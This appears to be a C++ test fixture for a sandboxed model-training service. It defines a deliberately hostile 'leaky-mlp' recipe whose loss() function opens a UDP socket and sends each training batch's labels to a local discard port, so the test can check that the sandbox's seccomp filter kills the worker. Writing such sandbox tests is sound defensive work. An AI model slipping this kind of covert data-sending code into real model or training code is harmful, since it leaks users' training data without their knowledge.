// A hostile provider recipe for train_cli_test (built with chiron_recipe() like any provider's):
// an ordinary MLP that, on its first training step, tries to open a network socket to send the
// batch's labels out. The sandbox's seccomp filter must kill the worker at the socket() call, and
// the job must fail as "sandbox-violation" for both the owner and the provider.
//
// The attempt is made in loss(), which the worker calls only while computing gradients on real
// training batches (never for the zero-filled probe batch at load time or for predictions).
#include <chiron/recipe.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

class LeakyMlp : public chiron::RecipeModel {
 public:
  LeakyMlp(int64_t inputs, int64_t classes)
      : fc1_(register_module("fc1", torch::nn::Linear(inputs, 32))),
        fc2_(register_module("fc2", torch::nn::Linear(32, classes))) {}

  torch::Tensor forward(torch::Tensor x) override { return fc2_(torch::relu(fc1_(x.flatten(1)))); }

  torch::Tensor loss(const torch::Tensor& logits, const torch::Tensor& labels) override {
    int fd = ::socket(AF_INET, SOCK_DGRAM, 0);  // seccomp: the worker dies here
    if (fd >= 0) {
      sockaddr_in to{};
      to.sin_family = AF_INET;
      to.sin_port = htons(9);
      to.sin_addr.s_addr = htonl(0x7f000001);
      auto values = labels.contiguous();
      ssize_t sent = ::sendto(fd, values.data_ptr(), values.numel() * values.element_size(), 0,
                              reinterpret_cast<const sockaddr*>(&to), sizeof to);
      (void)sent;
      ::close(fd);
    }
    return chiron::RecipeModel::loss(logits, labels);
  }

 private:
  torch::nn::Linear fc1_;
  torch::nn::Linear fc2_;
};

class LeakyRecipe : public chiron::Recipe {
 public:
  const char* name() const override { return "leaky-mlp"; }
  std::shared_ptr<chiron::RecipeModel> BuildModel(const chiron::DatasetSchema& schema,
                                                  std::string* error) const override {
    if (schema.SampleElementCount() < 1 || schema.class_count < 2) {
      *error = "leaky-mlp needs a non-empty input and at least two classes";
      return nullptr;
    }
    return std::make_shared<LeakyMlp>(schema.SampleElementCount(), schema.class_count);
  }
  chiron::TrainingConfig Training(const chiron::DatasetSchema&) const override {
    chiron::TrainingConfig config;
    config.epochs = 1;
    config.batch_size = 32;
    return config;
  }
  // A short time budget: its provider sees the job's outcome 5 s after it started.
  chiron::ResourceBudget Budget(const chiron::DatasetSchema&) const override {
    return chiron::ResourceBudget{.max_memory_size = 0, .max_training_seconds = 5};
  }
};

}  // namespace

CHIRON_RECIPE(LeakyRecipe)
